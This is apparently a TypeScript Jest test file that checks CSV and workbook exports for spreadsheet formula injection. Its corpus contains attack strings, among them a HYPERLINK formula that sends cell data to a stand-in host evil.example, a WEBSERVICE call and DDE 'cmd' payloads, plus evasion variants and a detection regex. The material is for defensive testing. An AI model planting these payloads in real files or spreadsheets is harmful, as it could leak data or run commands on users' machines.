import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { readSheet } from 'read-excel-file/node';
import { plainCell } from '@openhall/domain/text';
import type { ExportRow } from '../tables/column.js';
import { tablesOf } from '../tables/exported-tables.js';
import type { TableName } from '../tables/exported-tables.js';
import { bytesOf, pretendSource } from '../../../test/builders/pretend-source.js';
import { tableText } from './export-writers.js';
import { workbook } from './workbook.js';

/** What has run in spreadsheets, and ways around clumsy defences. */
const corpus = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  `=cmd|' /C calc'!A0`,
  '=WEBSERVICE("https://evil.example")',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1"',
  '";=1+1',
  'a\r\n=1+1',
  'a",=1+1',
  "'=1+1",
  "''=1+1",
  '|calc',
  '%0A=1+1',
  '<f>1+1</f>',
  ']]><c><f>1+1</f></c>',
  '_x003D_1+1',
  '\u0000=1+1',
];
const runs = /^[\s\u00a0\ufeff\u200b\0]*[=+\-@＝＋－＠]|^[\t\r\n\0]/u;

const scopes = ['consultation', 'townhall'] as const;
const cases = scopes.flatMap((scope) => tablesOf(scope, true).map((table) => ({ scope, table })));

describe.each(cases)('formulas in $table.name', ({ scope, table }) => {
  const texts = table.columns.filter(({ type }) => type === 'text' || type === 'word' || type === 'date');
  const rows = corpus.map((text) => Object.fromEntries(texts.map(({ name }) => [name, text])) as ExportRow);
  const source = () =>
    pretendSource(
      { [table.name]: rows } as Partial<Record<TableName, ExportRow[]>>,
      { restricted: true },
      scope,
    );

  it('run in no cell of a CSV file, and come back as they were', async () => {
    const csv = (await bytesOf(tableText(source(), { table: table.name, format: 'csv' }))).toString();
    const read = parse(csv, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    expect(read).toHaveLength(corpus.length);
    for (const [index, row] of read.entries()) {
      for (const { name, type } of texts) {
        const cell = row[name] ?? '';
        expect({ name, cell, runs: runs.test(cell) }).toMatchObject({ runs: false });
        if (type === 'text') expect(plainCell(cell)).toBe(corpus[index]);
      }
    }
  });

  it('are text in every cell of a workbook', async () => {
    const bytes = await bytesOf(workbook(source()));
    for (const [name, content] of Object.entries(unzipSync(bytes))) {
      if (!name.startsWith('xl/worksheets/')) continue;
      const xml = strFromU8(content);
      expect(xml).not.toContain('<f>');
      expect(xml).not.toContain('<f ');
      expect(xml.match(/<c [^>]*t="(?!inlineStr|b)/g)).toBeNull();
    }
    const sheet = await readSheet(bytes, table.title({}, { locale: 'en' }));
    expect(sheet).toHaveLength(corpus.length + 1);
  });
});
